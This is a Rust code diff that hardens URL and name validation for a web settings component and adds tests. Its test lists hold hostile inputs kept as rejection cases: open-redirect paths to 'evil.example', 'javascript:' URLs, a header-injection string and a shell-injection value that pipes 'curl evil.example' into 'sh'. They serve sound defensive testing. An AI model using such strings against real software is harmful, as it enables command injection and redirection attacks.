@@ -93,8 +93,9 @@ impl fmt::Display for ConfigError {
 
 impl std::error::Error for ConfigError {}
 
-/// An absolute URL as the browser's own parser reads it (`new URL(value)`): the tab leaves URL
-/// parsing to the browser rather than shipping a parser (and its Unicode tables) in the wasm.
+/// A URL as the browser's own parser reads it, resolved against the page (`new URL(value,
+/// location.href)`): the tab leaves URL parsing to the browser rather than shipping a parser
+/// (and its Unicode tables) in the wasm.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct UrlParts {
     /// `https:`, `http:`, `javascript:`…
@@ -114,9 +115,16 @@ fn is_loopback(hostname: &str) -> bool {
             .is_ok_and(|ip| ip.is_loopback())
 }
 
-/// A path on the page's own origin: `/…`, but not `//…` (another host) nor with a backslash.
-pub(crate) fn is_same_origin_path(value: &str) -> bool {
-    value.starts_with('/') && !value.starts_with("//") && !value.contains('\\')
+/// A path of the page's own site: the rule the server follows too (`lev_rules::site_path`:
+/// one `/`, no backslash, control character or white space, also once percent-decoded), and
+/// what `resolve` (the browser's parser, against the page) makes of it has the page's origin.
+pub fn is_site_path(
+    value: &str,
+    page_origin: &str,
+    resolve: &impl Fn(&str) -> Option<UrlParts>,
+) -> bool {
+    lev_rules::site_path::is_site_path(value)
+        && resolve(value).is_some_and(|url| url.origin == page_origin)
 }
 
 /// `api-base`: a same-origin path or URL, an `https:` URL, or `http:` on loopback.
@@ -125,14 +133,15 @@ fn check_api_base(
     page_origin: &str,
     parse: &impl Fn(&str) -> Option<UrlParts>,
 ) -> Result<(), ConfigError> {
-    if is_same_origin_path(value) {
+    if is_site_path(value, page_origin, parse) {
         return Ok(());
     }
-    let allowed = parse(value).is_some_and(|url| match url.protocol.as_str() {
-        "https:" => true,
-        "http:" => url.origin == page_origin || is_loopback(&url.hostname),
-        _ => false,
-    });
+    let allowed = is_absolute(value)
+        && parse(value).is_some_and(|url| match url.protocol.as_str() {
+            "https:" => true,
+            "http:" => url.origin == page_origin || is_loopback(&url.hostname),
+            _ => false,
+        });
     if allowed {
         Ok(())
     } else {
@@ -144,14 +153,43 @@ fn check_api_base(
     }
 }
 
+/// Whether `value` names its scheme (`https://…`), rather than being relative to the page.
+fn is_absolute(value: &str) -> bool {
+    value.split_once(':').is_some_and(|(scheme, _)| {
+        !scheme.is_empty()
+            && scheme
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
+    })
+}
+
+/// `origin-app`: a name of letters, digits, `.`, `_` and `-`, at most 64 characters. It is sent
+/// as a header and shown in a command people paste into a shell, so nothing else gets in.
+fn check_origin_app(value: &str) -> Result<(), ConfigError> {
+    let allowed = (1..=64).contains(&value.len())
+        && value
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'));
+    if allowed {
+        Ok(())
+    } else {
+        Err(ConfigError {
+            attribute: "origin-app",
+            value: value.to_owned(),
+            rule: "name the app with letters, digits, dots, underscores and hyphens only, at most 64 (lev-settings)",
+        })
+    }
+}
+
 /// A link setting (`sign-in-url`, `upgrade-url`): a same-origin path or an `https:` URL.
 fn check_link(
     attribute: &'static str,
     value: &str,
+    page_origin: &str,
     parse: &impl Fn(&str) -> Option<UrlParts>,
 ) -> Result<(), ConfigError> {
-    let allowed =
-        is_same_origin_path(value) || parse(value).is_some_and(|u| u.protocol == "https:");
+    let allowed = is_site_path(value, page_origin, parse)
+        || (is_absolute(value) && parse(value).is_some_and(|u| u.protocol == "https:"));
     if allowed {
         Ok(())
     } else {
@@ -166,8 +204,8 @@ fn check_link(
 impl Config {
     /// Reads the settings of a host element through `attribute` (the value of the
     /// attribute `<name>`), on a page whose origin is `page_origin` (`https://app.lev.example`),
-    /// with `parse` reading absolute URLs (the browser's parser): defaults for what is missing,
-    /// an error for what is refused.
+    /// with `parse` reading URLs against the page (the browser's parser): defaults for what is
+    /// missing, an error for what is refused.
     pub fn from_host_attributes(
         attribute: impl Fn(&str) -> Option<String>,
         page_origin: &str,
@@ -181,10 +219,11 @@ impl Config {
             });
         }
         let config = Self::from_attributes(attribute);
+        check_origin_app(&config.origin_app)?;
         check_api_base(&config.api_base, page_origin, &parse)?;
-        check_link("sign-in-url", &config.sign_in_url, &parse)?;
+        check_link("sign-in-url", &config.sign_in_url, page_origin, &parse)?;
         if let Some(upgrade) = &config.upgrade_url {
-            check_link("upgrade-url", upgrade, &parse)?;
+            check_link("upgrade-url", upgrade, page_origin, &parse)?;
         }
         Ok(config)
     }
@@ -255,33 +294,29 @@ mod tests {
         }
     }
 
-    /// Reads `scheme:…` and `scheme://host[:port]/…` the way the browser's parser does, for the
-    /// URLs these tests use (the app itself asks the browser).
+    /// The page the native tests' settings are read on.
+    const PAGE: &str = "https://app.lev.example/settings/api-keys";
+
+    /// Resolves `value` against [`PAGE`] with the `url` crate, a WHATWG URL parser like the
+    /// browser's (the app itself asks the browser).
     fn parse(value: &str) -> Option<UrlParts> {
-        let (scheme, rest) = value.split_once(':')?;
-        if !scheme.chars().all(|c| c.is_ascii_alphabetic()) {
-            return None;
-        }
-        let protocol = format!("{}:", scheme.to_ascii_lowercase());
-        let Some(rest) = rest.strip_prefix("//") else {
-            return Some(UrlParts {
-                protocol,
-                hostname: String::new(),
-                origin: "null".to_owned(),
-            });
-        };
-        let authority = rest.split(['/', '?', '#']).next()?;
-        let host_port = authority.rsplit('@').next()?;
-        let hostname = if host_port.starts_with('[') {
-            host_port.split_inclusive(']').next()?
-        } else {
-            host_port.split(':').next()?
-        };
+        let url = url::Url::parse(PAGE).ok()?.join(value).ok()?;
         Some(UrlParts {
-            origin: format!("{protocol}//{host_port}"),
-            protocol,
-            hostname: hostname.to_ascii_lowercase(),
+            protocol: format!("{}:", url.scheme()),
+            hostname: url.host_str().unwrap_or_default().to_owned(),
+            origin: url.origin().ascii_serialization(),
         })
+    }
+
+    #[test]
+    fn paths_of_this_site_follow_the_shared_table() {
+        for (text, on_site) in lev_rules::site_path::CASES {
+            assert_eq!(
+                is_site_path(text, "https://app.lev.example", &parse),
+                *on_site,
+                "{text:?}"
+            );
+        }
     }
 
     fn host(attributes: &[(&str, &str)]) -> Result<Config, ConfigError> {
@@ -321,6 +356,8 @@ mod tests {
             "http://127.0.0.1.evil.example/api",
             "//evil.example/api",
             "/\\evil.example/api",
+            "/\t/evil.example/api",
+            "/\n/evil.example/api",
             "javascript:alert(1)",
             "ftp://127.0.0.1/api",
             "api/external/v2",
@@ -339,6 +376,7 @@ mod tests {
             "http://id.lev.example/login",
             "javascript:alert(1)",
             "//evil.example/login",
+            "/\t/evil.example/login",
             "data:text/html,hi",
         ] {
             let error = host(&[("sign-in-url", refused)]).expect_err(refused);
@@ -355,6 +393,25 @@ mod tests {
         );
         let error = host(&[("upgrade-url", "javascript:alert(1)")]).expect_err("refused");
         assert_eq!(error.attribute, "upgrade-url");
+    }
+
+    #[test]
+    fn the_origin_app_is_a_plain_name() {
+        for ok in ["lev-settings", "Lev.Settings_2", &"a".repeat(64)] {
+            assert!(host(&[("origin-app", ok)]).is_ok(), "{ok}");
+        }
+        for refused in [
+            "x\" $(curl evil.example | sh) \"",
+            "lev settings",
+            "lev'settings",
+            "lev;rm",
+            "lev\nX-Injected: 1",
+            "lëv",
+            &"a".repeat(65),
+        ] {
+            let error = host(&[("origin-app", refused)]).expect_err(refused);
+            assert_eq!(error.attribute, "origin-app");
+        }
     }
 
     #[test]
